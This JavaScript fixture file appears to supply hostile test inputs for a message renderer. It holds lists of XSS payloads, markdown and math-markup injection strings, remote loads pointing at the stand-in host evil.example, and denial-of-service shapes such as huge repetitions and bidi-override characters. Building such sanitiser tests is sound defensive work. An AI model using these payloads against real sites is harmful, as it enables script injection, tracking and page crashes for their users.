/*
 * Texts that try to run something, load something, or break the page. Each stands once as a message, and the short
 * ones as titles, tags and names of files as well. `hit()` is what a script of theirs would call.
 */

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
  '<math href="javascript:hit()">click</math>',
  '<body onload=hit()>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<video poster="https://evil.example/p.png" autoplay><source src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay onplay=hit()></audio>',
  '<details open ontoggle=hit()>x</details>',
  '<input autofocus onfocus=hit()>',
  '<a href="javascript:hit()">x</a>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '--><script>hit()</script><!--',
  '"><script>hit()</script>',
  "'><img src=x onerror=hit()>",
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;'
]

const markdown = [
  '[x](javascript:hit())',
  '[x](JaVaScRiPt:hit())',
  '[x](java\tscript:hit())',
  '[x](&#106;avascript:hit())',
  '[x](javascript&colon;hit())',
  '[x](vbscript:hit())',
  '[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGl0KCk+)',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '![x](https://evil.example/"onerror="hit())',
  '[x](https://e.example/"onmouseover="hit())',
  '[x](https://e.example "title\\" onclick=hit()")',
  '[x][ref]\n\n[ref]: javascript:hit()',
  '<javascript:hit()>',
  '<https://evil.example/<script>hit()</script>>',
  '```"><script>hit()</script>\nx\n```',
  '```html\n<script>hit()</script>\n```',
  '```js onload=hit()\n</code></pre><script>hit()</script>\n```',
  '`</code><script>hit()</script>`',
  '|a<script>hit()</script>|b|\n|:-:|-:|\n|<img src=x onerror=hit()>|x|',
  '[^x]: <script>hit()</script>\n\nnote[^x]',
  '# <img src=x onerror=hit()>',
  '- <svg onload=hit()>\n  > <script>hit()</script>',
  '$\\href{javascript:hit()}{x}$',
  '$\\url{javascript:hit()}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlStyle{background:url(https://evil.example/x)}{x}$',
  '$\\htmlData{x=1}{x} \\htmlClass{message}{y} \\htmlId{page}{z}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$</math><script>hit()</script>$',
  '\\(\\text{<img src=x onerror=hit()>}\\)'
]

const shapes = [
  '\u202Egnp.exe\u202C and \u2066isolated\u2069 \u200F\u200E',
  `z${'\u0301\u0302\u0303\u0304\u0305'.repeat(200)}algo`,
  '\u0000\u0001\u0008\uFEFF\uFFFD',
  '>'.repeat(2000) + ' deep',
  '- '.repeat(1000) + 'deep',
  '['.repeat(5000) + 'x' + ']'.repeat(5000),
  '*'.repeat(5000) + 'x' + '_'.repeat(5000),
  `|${'x|'.repeat(500)}\n|${'-|'.repeat(500)}\n${'|\n'.repeat(500)}`,
  '`'.repeat(3000) + 'a' + '`'.repeat(2999),
  'A'.repeat(1_000_000),
  `${'word '.repeat(150_000)}`,
  '&amp;'.repeat(20_000),
  '👩‍👩‍👧‍👦'.repeat(500)
]

/** All of them, as messages. */
export const hostileMessages = [...scripts, ...markdown, ...shapes]

/** Those that fit into a title, a tag or a name of a file. */
export const hostileNames = [...scripts, ...markdown, ...shapes].filter((text) => text.length <= 120 && !/[\n\t\0]/.test(text))
